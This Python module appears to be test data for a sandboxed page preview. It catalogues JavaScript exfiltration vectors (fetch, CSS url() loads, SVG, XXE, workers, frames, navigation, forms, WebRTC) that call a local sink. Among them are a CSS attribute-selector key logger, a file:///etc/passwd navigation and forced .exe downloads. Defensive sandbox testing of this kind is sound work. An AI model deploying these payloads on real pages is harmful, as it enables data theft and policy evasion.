"""Ways a hostile page may try to be heard outside: name -> code, by route. What the code may use is told in `vectors`."""

from __future__ import annotations

REQUESTS = {
    "fetch": "fetch(to(), {mode: 'no-cors'}).catch(() => tell('refused'))",
    "fetch with keepalive": "fetch(to(), {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}).catch(() => tell('refused'))",
    "fetch of an untouched window": "W.fetch(to(), {mode: 'no-cors'}).catch(() => tell('refused'))",
    "fetch later": "W.fetchLater(to(), {activateAfter: 0})",
    "fetch of the app, with cookies": "W.fetch(APP + '/?' + to(), {credentials: 'include'}).then(() => tell('got an answer'), () => tell('refused'))",
    "fetch of the preview's own server": "W.fetch('/shelf/shelf.json').then((r) => r.text()).then(() => tell('got an answer'), () => tell('refused'))",
    "XMLHttpRequest": "const x = new W.XMLHttpRequest(); x.onerror = () => tell('refused'); x.open('GET', to()); x.send()",
    "XMLHttpRequest that waits": "const x = new W.XMLHttpRequest(); x.open('GET', to(), false); x.send(); tell('got ' + x.status)",
    "sendBeacon": "Navigator.prototype.sendBeacon.call(navigator, to(), 'x')",
    "EventSource": "new EventSource(to())",
    "WebSocket": "new WebSocket(ws())",
    "WebSocketStream": "new WebSocketStream(ws())",
    "WebTransport": "new WebTransport(to().replace('http:', 'https:'))",
    "form data by POST": "W.fetch(to(), {method: 'POST', mode: 'no-cors', body: new FormData()}).catch(() => tell('refused'))",
    "attribution by an image": "add('<img attributionsrc=\"' + to() + '\">')",
}
STYLES = {
    "background image": "add('<div style=\"height:9px;background:url(' + to() + ')\"></div>')",
    "@import": "add('<style>@import url(' + to() + ');</style>')",
    "@font-face": "add('<style>@font-face{font-family:q;src:url(' + to() + ')}body{font-family:q}</style>words')",
    "FontFace": "new FontFace('q', 'url(' + to() + ')').load().catch(() => tell('refused'))",
    "stylesheet link": "add('<link rel=stylesheet href=\"' + to() + '\">')",
    "cursor, mask, list and border images": "add('<ul style=\"cursor:url(' + to() + '),auto;mask-image:url(' + to() + ');list-style-image:url(' + to() + ');border:9px solid;border-image:url(' + to() + ') 3\"><li>x</ul>')",
    "content and image-set": "add('<style>p::before{content:url(' + to() + ')}p{background:image-set(url(' + to() + ') 1x)}</style>')",
    "filter of another file": "add('<p style=\"filter:url(' + to() + '#f);clip-path:url(' + to() + '#c)\">x</p>')",
    "a key logger of attribute selectors": "add('<input id=k value=s><style>#k[value^=s]{background:url(' + to() + ')}</style>')",
    "constructed stylesheet": "const s = new CSSStyleSheet(); s.replaceSync('body{background:url(' + to() + ')}'); document.adoptedStyleSheets = [s]",
    "paint worklet": "CSS.paintWorklet.addModule(to()).catch(() => tell('refused'))",
    "stylesheet module": "import('data:text/javascript,' + encodeURIComponent('import s from \"' + to() + '\" with {type: \"css\"}')).catch(() => tell('refused'))",
}
MEDIA = {
    "image": "new Image().src = to()",
    "image of an untouched window": "W.document.body.append(Object.assign(new W.Image(), {src: to()}))",
    "srcset and picture": "add('<picture><source srcset=\"' + to() + '\"><img srcset=\"' + to() + ' 2x\"></picture>')",
    "video, poster and track": "add('<video src=\"' + to() + '\" poster=\"' + to() + '\" autoplay muted><track default src=\"' + to() + '\"></video>')",
    "audio": "new Audio(to()).play().catch(() => tell('refused'))",
    "input of type image": "add('<input type=image src=\"' + to() + '\">')",
    "old background attributes": "add('<table background=\"' + to() + '\"><tr><td background=\"' + to() + '\">x</table>'); document.body.background = to()",
    "object and embed": "add('<object data=\"' + to() + '\"></object><embed src=\"' + to() + '\">')",
    "artwork of the media session": "navigator.mediaSession.metadata = new MediaMetadata({title: 'x', artwork: [{src: to()}]})",
}
MARKUP = {
    "SVG image, use and feImage": "add('<svg><image href=\"' + to() + '\"/><use href=\"' + to() + '#a\"/><filter id=f><feImage href=\"' + to() + '\"/></filter><rect filter=\"url(#f)\" width=9 height=9 /></svg>')",
    "SVG script": "const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', to()); add('<svg id=v></svg>'); document.getElementById('v').append(s)",
    "SVG foreign object": "add('<svg><foreignObject><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"' + to() + '\"/></foreignObject></svg>')",
    "SVG picture in a picture": "new Image().src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"' + to() + '\"/></svg>')",
    "XML external entity": "new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM \"' + to() + '\">]><x>&e;</x>', 'text/xml')",
    "XSLT document()": 'const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(&quot;\' + to() + \'&quot;)"/></xsl:template></xsl:stylesheet>\', \'text/xml\')); p.transformToFragment(document, document)',
    "dangling markup": "add('<img src=\\'' + to() + '&')",
    "shadow tree": "const h = document.body.appendChild(document.createElement('div')); h.attachShadow({mode: 'closed'}).innerHTML = '<img src=\"' + to() + '\"><link rel=stylesheet href=\"' + to() + '\">'",
}
HINTS = {
    **{
        rel: f"document.head.append(Object.assign(document.createElement('link'), {{rel: '{rel}', href: to()}}))"
        for rel in (
            "prefetch",
            "preconnect",
            "dns-prefetch",
            "modulepreload",
            "prerender",
            "manifest",
            "icon",
            "apple-touch-icon",
            "compression-dictionary",
        )
    },
    "preload": "for (const as of ['image', 'script', 'style', 'font', 'fetch', 'track']) document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as, href: to()}))",
    "speculation rules": "const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = JSON.stringify({prefetch: [{urls: [to()], eagerness: 'immediate'}], prerender: [{urls: [to()]}]}); document.head.append(r)",
}
SCRIPTS = {
    "script element": "document.head.append(Object.assign(document.createElement('script'), {src: to()}))",
    "dynamic import": "import(to()).catch(() => tell('refused'))",
    "import inside a data: module": "import('data:text/javascript,' + encodeURIComponent('import \"' + to() + '\"')).catch(() => tell('refused'))",
    "JSON module": "import('data:text/javascript,' + encodeURIComponent('import d from \"' + to() + '\" with {type: \"json\"}')).catch(() => tell('refused'))",
    "import map added late": "document.head.append(Object.assign(document.createElement('script'), {type: 'importmap', textContent: JSON.stringify({imports: {leak: to()}})})); import('leak').catch(() => tell('refused'))",
    "audio worklet": "new OfflineAudioContext(1, 9, 9000).audioWorklet.addModule(to()).catch(() => tell('refused'))",
    "compiled while it streams": "WebAssembly.instantiateStreaming(W.fetch(to())).catch(() => tell('refused'))",
    "path above the shelf": "document.head.append(Object.assign(document.createElement('script'), {src: '/shelf/..%2f..%2f' + to()}))",
}
WORKERS = {
    "worker from the sink": "new W.Worker(to())",
    "fetch in a blob: worker": "new W.Worker(URL.createObjectURL(new Blob(['fetch(\"' + to() + '\", {mode: \"no-cors\"})'])))",
    "fetch in a data: worker": "new W.Worker('data:text/javascript,' + encodeURIComponent('fetch(\"' + to() + '\", {mode: \"no-cors\"})'))",
    "importScripts": "new W.Worker(URL.createObjectURL(new Blob(['importScripts(\"' + to() + '\")'])))",
    "sockets in a worker": "new W.Worker(URL.createObjectURL(new Blob(['new WebSocket(\"' + ws() + '\"); new EventSource(\"' + to() + '\")'])))",
    "module worker": "new W.Worker(URL.createObjectURL(new Blob(['import \"' + to() + '\"'], {type: 'text/javascript'})), {type: 'module'})",
    "worker in a worker": "new W.Worker(URL.createObjectURL(new Blob(['new Worker(\"data:text/javascript,\" + encodeURIComponent(\"fetch(\\'' + to() + '\\', {mode: \\'no-cors\\'})\"))'])))",
    "shared worker": "new SharedWorker('data:text/javascript,' + encodeURIComponent('fetch(\"' + to() + '\", {mode: \"no-cors\"})'))",
    "service worker": "W.navigator.serviceWorker.register('/frame').then(() => tell('got one'), () => tell('refused'))",
}
FRAMES = {
    "frame": "add('<iframe src=\"' + to() + '\"></iframe>')",
    "frame with its own document": "const f = document.createElement('iframe'); f.srcdoc = '<img src=\"' + to() + '\">'; document.body.append(f)",
    "frame with looser rules": "add('<iframe sandbox=\"allow-scripts allow-popups allow-same-origin allow-top-navigation\" src=\"' + to() + '\"></iframe>')",
    "frame of a data: page": "add('<iframe src=\"data:text/html,' + encodeURIComponent('<img src=' + to() + '>') + '\"></iframe>')",
    "frame of a blob: page": "add('<iframe src=\"' + URL.createObjectURL(new Blob(['<img src=' + to() + '>'], {type: 'text/html'})) + '\"></iframe>')",
    "frame of a javascript: address": "add('<iframe src=\"javascript:parent.tell(1);document.write(`<img src=' + to() + '>`)\"></iframe>')",
    "document written into an empty frame": "W.document.write('<img src=\"' + to() + '\"><script>fetch(\"' + to() + '\", {mode: \"no-cors\"})<\\/script>')",
    "an empty frame that leaves": "W.location = to()",
    "fenced frame": "const f = document.createElement('fencedframe'); document.body.append(f); f.config = new FencedFrameConfig(to())",
    "frame of the app": "const f = document.body.appendChild(document.createElement('iframe')); f.onload = () => { try { f.contentDocument.body; tell('got the app') } catch { tell('refused') } }; f.src = APP",
}
LEAVING = {
    "location": "location.href = to()",
    "location.assign": "location.assign(to())",
    "location.replace": "location.replace(to())",
    "navigation.navigate": "navigation.navigate(to())",
    "location of an untouched window's parent": "W.parent.location = to()",
    "by a timer, again and again": "setInterval(() => { location.href = to() }, 50)",
    "data: page": "location.href = 'data:text/html,' + encodeURIComponent('<img src=' + to() + '>')",
    "blob: page": "location.href = URL.createObjectURL(new Blob(['<script>location = \"' + to() + '\"<\\/script>'], {type: 'text/html'}))",
    "javascript: address": "location.href = 'javascript:\"<img src=' + to() + '>\"'",
    "view-source and file": "for (const a of ['view-source:' + to(), 'file:///etc/passwd', 'chrome://version', 'about:blank']) try { location.href = a } catch { tell('refused') }",
    "other programs": "for (const a of ['mailto:a@b.test', 'tel:1', 'ms-settings:x', 'intent://x#Intent;end']) try { location.href = a } catch { tell('refused') }",
    "refresh directive": "add('<meta http-equiv=refresh content=\"0;url=' + to() + '\">')",
    "history": "try { History.prototype.pushState.call(history, 0, '', to()); tell('got another address') } catch { tell('refused') } W.history.back(); W.history.go(-5)",
    "document.domain": "try { document.domain = 'localhost'; tell('got another domain') } catch { tell('refused') }",
    "a new document without the policy": "document.open(); document.write('<!DOCTYPE html><img src=\"' + to() + '\"><form action=\"' + to() + '\"><input name=q></form><script>document.forms[0].submit()<\\/script>'); document.close()",
}
LINKS = {
    "link": "click('a', {href: to()})",
    "link into a new tab": "click('a', {href: to(), target: '_blank'})",
    "link over the whole window": "click('a', {href: to(), target: '_top'})",
    "link to the parent": "click('a', {href: to(), target: '_parent'})",
    "link to a frame by name": "W.name = 'kept'; click('a', {href: to(), target: 'kept'})",
    "link with a ping": "click('a', {href: '#here', ping: to()})",
    "link with attribution": "click('a', {href: '#here', attributionsrc: to()})",
    "SVG link": "add('<svg><a id=s href=\"' + to() + '\"><text>x</text></a></svg>'); document.getElementById('s').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))",
    "SVG link given its address by an animation": "add('<svg><a id=s><animate attributeName=href values=\"' + to() + '\" fill=freeze begin=0s dur=\"1ms\"/><text>x</text></a></svg>'); setTimeout(() => document.getElementById('s').dispatchEvent(new MouseEvent('click', {bubbles: true})), 100)",
    "area of a map": "add('<map name=m><area id=r href=\"' + to() + '\" shape=default></map>'); W.HTMLElement.prototype.click.call(document.getElementById('r'))",
    "base address": "add('<base href=\"' + to() + '\">'); click('a', {href: 'x'}); new Image().src = 'y.png'",
}
DOWNLOADS = {
    "download from the sink": "click('a', {href: to(), download: 'x.exe'})",
    "download of a blob": "click('a', {href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe'})",
    "download of a data: address": "click('a', {href: 'data:application/octet-stream,x', download: 'x.exe'})",
    "page that is a download": "location.href = 'data:application/octet-stream,x'",
}
FORMS = {
    "GET": "add('<form action=\"' + to() + '\"><input name=q value=1></form>'); W.HTMLFormElement.prototype.submit.call(document.forms[0])",
    "POST into a new tab": "add('<form method=post target=_blank action=\"' + to() + '\"></form>'); W.HTMLFormElement.prototype.submit.call(document.forms[0])",
    "over the whole window": "add('<form target=_top action=\"' + to() + '\"></form>'); W.HTMLFormElement.prototype.submit.call(document.forms[0])",
    "formaction of a button": "add('<form><button id=b formaction=\"' + to() + '\">x</button></form>'); click('p', {}); W.HTMLElement.prototype.click.call(document.getElementById('b'))",
    "requestSubmit": "add('<form action=\"' + to() + '\"></form>'); W.HTMLFormElement.prototype.requestSubmit.call(document.forms[0])",
    "into an empty frame": "W.name = 'inner'; add('<form target=inner action=\"' + to() + '\"></form>'); W.HTMLFormElement.prototype.submit.call(document.forms[0])",
    "mailto": "add('<form action=\"mailto:a@b.test\"></form>'); W.HTMLFormElement.prototype.submit.call(document.forms[0])",
    "javascript: as action": "add('<form action=\"javascript:location=to()\"></form>'); W.HTMLFormElement.prototype.submit.call(document.forms[0])",
}
WEBRTC = {
    "STUN and TURN": "const c = new W.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + UDP}, {urls: 'turn:127.0.0.1:' + UDP, username: 'a', credential: 'b'}, {urls: 'turn:127.0.0.1:' + TCP + '?transport=tcp', username: 'a', credential: 'b'}]});"
    " c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    "a candidate of the sink": "const c = new W.RTCPeerConnection(), d = new W.RTCPeerConnection(); c.createDataChannel('x'); c.createOffer().then(async (o) => { await c.setLocalDescription(o); await d.setRemoteDescription(o); const a = await d.createAnswer(); await c.setRemoteDescription(a);"
    " await c.addIceCandidate({candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 ' + UDP + ' typ host', sdpMid: '0', sdpMLineIndex: 0}) }).catch(() => tell('refused'))",
}
